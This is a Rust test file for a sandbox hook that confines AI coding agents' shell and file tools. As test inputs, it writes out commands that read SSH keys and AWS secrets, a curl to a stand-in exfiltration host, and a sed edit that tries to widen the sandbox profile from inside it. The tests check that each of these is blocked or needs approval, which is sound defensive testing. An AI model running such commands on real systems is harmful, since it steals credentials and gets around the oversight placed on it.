//! The agent-shell hook end to end through the real binary: `init`, then PreToolUse
//! events as Claude Code and Codex send them, then the rewritten command run by
//! `/bin/sh` exactly as the agent would run it. The attacks of issue 13 (read a key,
//! exfiltrate, read a secret variable) get nothing; the project write works; every
//! command is in a trace under the agent's session, with its tool call id.

// Test helpers outside `#[test]` functions panic on setup failure by design.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{json, Value};

use crate::common::skillsandbox;

const CANARY: &str = "CANARY-ssh-key-3f9a1c";
const SECRET: &str = "CANARY-aws-secret-77d2";

struct Project {
    _tmp: tempfile::TempDir,
    home: PathBuf,
    dir: PathBuf,
    state: PathBuf,
}

impl Project {
    fn new() -> Project {
        let tmp = tempfile::tempdir().unwrap();
        let home = tmp.path().join("home");
        let dir = home.join("proj");
        let state = tmp.path().join("state");
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::create_dir_all(home.join(".aws")).unwrap();
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::create_dir_all(&state).unwrap();
        std::fs::write(home.join(".ssh/id_ed25519"), CANARY).unwrap();
        std::fs::write(home.join(".aws/credentials"), SECRET).unwrap();
        std::fs::write(dir.join("package.json"), "{}").unwrap();
        Project {
            _tmp: tmp,
            home,
            dir,
            state,
        }
    }

    /// A command with this project's environment (HOME, state dirs, a secret).
    fn env(&self, mut c: Command) -> Command {
        c.env("HOME", &self.home)
            .env("XDG_STATE_HOME", &self.state)
            .env("XDG_CONFIG_HOME", self.state.join("config"))
            .env("SKILLSANDBOX_SESSION_DB", self.state.join("sessions.db"))
            .env("SKILLSANDBOX_AUDIT_LOG", self.state.join("audit.jsonl"))
            .env("AWS_SECRET_ACCESS_KEY", SECRET)
            .current_dir(&self.dir);
        c
    }

    fn hook(&self, agent: &str, event: &Value) -> Value {
        let mut c = self.env(skillsandbox());
        let mut child = c
            .args(["hook", agent])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(event.to_string().as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{out:?}");
        serde_json::from_slice(&out.stdout).unwrap()
    }

    /// What the agent runs after the hook's reply: the updated command, by /bin/sh.
    fn run_as_agent(&self, reply: &Value) -> Output {
        let out = &reply["hookSpecificOutput"];
        assert_eq!(out["permissionDecision"], "allow", "{reply}");
        let cmd = out["updatedInput"]["command"].as_str().unwrap();
        let mut c = self.env(Command::new("/bin/sh"));
        c.arg("-c").arg(cmd).output().unwrap()
    }
}

fn bash_event(session: &str, id: &str, cwd: &Path, command: &str) -> Value {
    json!({
        "session_id": session, "transcript_path": "/dev/null", "cwd": cwd,
        "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": command, "description": "d", "timeout": 60000},
        "tool_use_id": id,
    })
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn the_agents_shell_commands_run_confined_by_the_project_profile() {
    let p = Project::new();
    let init = p.env(skillsandbox()).arg("init").output().unwrap();
    assert!(init.status.success(), "{init:?}");
    let profile = std::fs::read_to_string(p.dir.join(".skillsandbox/profile.yaml")).unwrap();
    assert!(
        profile.contains("# package.json found: npm packages"),
        "{profile}"
    );
    let session = "5f1c9a52-2a43-4a8b-9d7e-0c4e1f2b9a10";

    // 1. The canary key: hidden even though the home directory is readable.
    let r = p.hook("claude-code", &bash_event(session, "toolu_1", &p.dir, "cat ~/.ssh/id_ed25519; cat \"$HOME\"/../home/.ssh/id_ed25519; cat /proc/1/root\"$PWD\"/../.ssh/id_ed25519"));
    let o = p.run_as_agent(&r);
    assert!(!text(&o).contains(CANARY), "{}", text(&o));

    // 2. Exfiltration: the name is refused, and the agent is told which line allows it.
    let r = p.hook(
        "claude-code",
        &bash_event(
            session,
            "toolu_2",
            &p.dir,
            "curl -s --max-time 5 https://exfil.example/",
        ),
    );
    let o = p.run_as_agent(&r);
    assert!(!o.status.success());
    let t = text(&o);
    assert!(
        t.contains("blocked: DNS lookup of exfil.example")
            && t.contains("- domain: exfil.example")
            && t.contains("profile.yaml"),
        "{t}"
    );

    // 3. The project write works, and lands in the project on the host.
    let r = p.hook(
        "claude-code",
        &bash_event(session, "toolu_3", &p.dir, "echo ok > ./built.txt"),
    );
    let o = p.run_as_agent(&r);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(p.dir.join("built.txt")).unwrap(),
        "ok\n"
    );

    // 4. The secret variable is not there (Codex sends the same shape).
    let r = p.hook(
        "codex",
        &bash_event(
            session,
            "call_4",
            &p.dir,
            "printenv AWS_SECRET_ACCESS_KEY; env",
        ),
    );
    let o = p.run_as_agent(&r);
    assert!(!text(&o).contains(SECRET), "{}", text(&o));

    // Every command is in a trace, under the agent's session, with its call id.
    let traces = p.state.join("skillsandbox/traces");
    let mut ids: Vec<String> = std::fs::read_dir(&traces)
        .unwrap()
        .map(|e| {
            let t: Value =
                serde_json::from_slice(&std::fs::read(e.unwrap().path()).unwrap()).unwrap();
            assert_eq!(t["session_id"], session, "{t}");
            t["tool_call_id"].as_str().unwrap().to_owned()
        })
        .collect();
    ids.sort();
    assert_eq!(ids, ["call_4", "toolu_1", "toolu_2", "toolu_3"]);
    let audit = std::fs::read_to_string(p.state.join("audit.jsonl")).unwrap();
    assert!(audit.contains("\"tool_call_id\":\"toolu_2\""), "{audit}");
}

#[test]
fn hidden_paths_are_denied_to_file_tools_and_a_killed_session_to_the_shell() {
    let p = Project::new();
    assert!(p
        .env(skillsandbox())
        .arg("init")
        .status()
        .unwrap()
        .success());
    let read = json!({
        "session_id": "s-hook-1", "cwd": p.dir, "hook_event_name": "PreToolUse",
        "tool_name": "Read", "tool_input": {"file_path": p.home.join(".ssh/id_ed25519")},
        "tool_use_id": "toolu_r",
    });
    let r = p.hook("claude-code", &read);
    assert_eq!(r["hookSpecificOutput"]["permissionDecision"], "deny", "{r}");
    let kill = p
        .env(skillsandbox())
        .args(["session", "kill", "s-hook-1", "--reason", "exfil attempt"])
        .output()
        .unwrap();
    assert!(kill.status.success(), "{kill:?}");
    let r = p.hook(
        "claude-code",
        &bash_event("s-hook-1", "toolu_k", &p.dir, "true"),
    );
    let out = &r["hookSpecificOutput"];
    assert_eq!(out["permissionDecision"], "deny", "{r}");
    assert!(
        out["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("exfil attempt"),
        "{r}"
    );
}

#[test]
fn without_a_profile_or_with_garbage_the_hook_denies() {
    let p = Project::new();
    let r = p.hook("claude-code", &bash_event("s-hook-2", "t", &p.dir, "true"));
    let out = &r["hookSpecificOutput"];
    assert_eq!(out["permissionDecision"], "deny", "{r}");
    assert!(out["permissionDecisionReason"]
        .as_str()
        .unwrap()
        .contains("skillsandbox init"));
    let mut c = p.env(skillsandbox());
    let mut child = c
        .args(["hook", "claude-code"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdin.take());
    let o = child.wait_with_output().unwrap();
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
}

#[test]
fn a_confined_command_cannot_widen_the_profile_for_the_next_one() {
    let p = Project::new();
    assert!(p
        .env(skillsandbox())
        .arg("init")
        .status()
        .unwrap()
        .success());
    // The project is writable, so the profile is too: the attack succeeds on disk...
    let widen = "sed -i 's/max_processes: 1024/max_processes: 65536/' .skillsandbox/profile.yaml";
    let r = p.hook("claude-code", &bash_event("s-hook-3", "t1", &p.dir, widen));
    let o = p.run_as_agent(&r);
    assert!(o.status.success(), "{}", text(&o));
    let profile = std::fs::read_to_string(p.dir.join(".skillsandbox/profile.yaml")).unwrap();
    assert!(profile.contains("max_processes: 65536"), "{profile}");
    // ...and buys nothing: a changed profile is not trusted until the user approves it.
    let r = p.hook("claude-code", &bash_event("s-hook-3", "t2", &p.dir, "true"));
    let out = &r["hookSpecificOutput"];
    assert_eq!(out["permissionDecision"], "deny", "{r}");
    assert!(
        out["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("changed since it was approved"),
        "{r}"
    );
    // The agent's own file tools cannot rewrite it (or the agent settings) either.
    let write = json!({
        "session_id": "s-hook-3", "cwd": p.dir, "hook_event_name": "PreToolUse",
        "tool_name": "Write", "tool_input": {"file_path": ".claude/settings.json", "content": "{}"},
    });
    assert_eq!(
        p.hook("claude-code", &write)["hookSpecificOutput"]["permissionDecision"],
        "deny"
    );
    let approve = p
        .env(skillsandbox())
        .args(["hook", "approve"])
        .output()
        .unwrap();
    assert!(approve.status.success(), "{approve:?}");
    let r = p.hook("claude-code", &bash_event("s-hook-3", "t3", &p.dir, "true"));
    assert_eq!(
        r["hookSpecificOutput"]["permissionDecision"], "allow",
        "{r}"
    );
}
